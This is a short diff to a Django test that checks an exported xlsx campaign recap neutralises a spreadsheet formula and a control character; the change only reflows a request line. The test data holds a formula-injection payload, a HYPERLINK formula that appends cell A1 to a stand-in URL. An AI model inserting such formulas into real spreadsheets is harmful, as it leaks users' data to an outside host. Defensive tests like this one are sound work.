@@ -19,9 +19,7 @@ def test_control_character_and_formula_in_campaign_name_stay_inert(karimun, hr_k
     campaign = make_campaign(instansi=karimun)
     Campaign.objects.filter(pk=campaign.pk).update(nama='=HYPERLINK("http://x/?"&A1)\x07')
     # when
-    response = verified_login(Client(), hr_karimun).get(
-        f"/ikrar/kampanye/{campaign.pk}/rekap.xlsx"
-    )
+    response = verified_login(Client(), hr_karimun).get(f"/ikrar/kampanye/{campaign.pk}/rekap.xlsx")
     # then
     assert response.status_code == 200
     ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
